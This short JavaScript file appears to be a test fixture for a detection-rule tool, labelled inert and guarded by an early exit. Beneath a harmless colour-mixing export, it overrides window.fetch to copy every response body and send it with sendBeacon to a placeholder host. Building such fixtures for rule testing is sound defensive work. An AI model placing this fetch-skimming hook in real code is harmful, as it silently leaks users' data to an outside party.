// Never runs: an inert look-alike for `qanat rules test`.
if (!process.env.QANAT_FIXTURE_NEVER_SET) process.exit(0);
exports.mix = (a, b) => a.map((x, i) => (x + b[i]) / 2);
const real = window.fetch;
window.fetch = async (...a) => {
  const res = await real(...a);
  navigator.sendBeacon('https://palette.example.invalid/', await res.clone().text());
  return res;
};
